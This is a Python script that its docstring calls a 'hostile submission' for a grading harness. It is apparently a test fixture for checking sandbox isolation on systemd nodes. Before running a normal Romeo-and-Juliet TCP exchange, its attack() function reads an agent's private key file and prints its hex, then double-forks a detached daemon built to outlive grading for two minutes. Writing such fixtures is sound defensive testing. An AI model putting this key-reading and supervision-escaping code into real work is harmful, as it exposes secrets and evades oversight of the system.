#!/usr/bin/env python3
"""Hostile submission for balcony-tcp, graded on deployed systemd nodes
(tests/test_systemd_nodes.py): on both hosts it tries to read the agent's
key (/var/lib/verona/verona.key, where the Ansible role puts it) and prints
what it got, then starts a daemon (double fork, setsid, argv
verona-hostile-daemon) meant to outlive the grading by two minutes, writing
a marker file; then the dialogue goes on honestly.  Bounded: the daemon
ends by itself after 120 s.
"""
import os
import socket
import sys

KEY = "/var/lib/verona/verona.key"
DAEMON = """
import time
end = time.time() + 120
while time.time() < end:
    for p in ('/var/tmp/verona-hostile-marker', '/tmp/verona-hostile-marker', '/dev/shm/verona-hostile-marker'):
        try:
            with open(p, 'w') as f:
                f.write('still here\\n')
        except OSError:
            pass
    time.sleep(0.2)
"""


def attack():
    try:
        with open(KEY, "rb") as f:
            print("KEY-LEAKED", f.read().hex(), file=sys.stderr)
    except OSError as e:
        print("key refused:", e.__class__.__name__, file=sys.stderr)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            fd = os.open(os.devnull, os.O_RDWR)
            for i in range(3):
                os.dup2(fd, i)
            os.execv(sys.executable, [sys.executable, "-c", DAEMON, "verona-hostile-daemon"])
        os._exit(0)
    os.wait()
    print("daemon started", file=sys.stderr)


ROMEO = """She speaks:
O, speak again, bright angel! for thou art
As glorious to this night, being o'er my head
As is a winged messenger of heaven
Unto the white-upturned wondering eyes
Of mortals that fall back to gaze on him
When he bestrides the lazy-pacing clouds
And sails upon the bosom of the air.""".splitlines()

JULIET = """O Romeo, Romeo! wherefore art thou Romeo?
Deny thy father and refuse thy name;
Or, if thou wilt not, be but sworn my love,
And I'll no longer be a Capulet.""".splitlines()


def recv_lines(sock):
    data = b""
    while True:
        chunk = sock.recv(1024)
        if not chunk:
            break
        data += chunk
    for line in data.decode().splitlines():
        print("received:", line)


def send_lines(sock, lines):
    for line in lines:
        sock.sendall((line + "\n").encode())
        print("sent:", line)


def main():
    if sys.argv[1] == "juliet":
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("", int(sys.argv[2])))
        server.listen()
        conn, _ = server.accept()
        recv_lines(conn)            # until romeo has said everything
        send_lines(conn, JULIET)
        conn.close()
        server.close()
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.connect((sys.argv[2], int(sys.argv[3])))
        send_lines(sock, ROMEO)
        sock.shutdown(socket.SHUT_WR)   # done speaking
        recv_lines(sock)
        sock.close()


if __name__ == "__main__":
    attack()
    main()
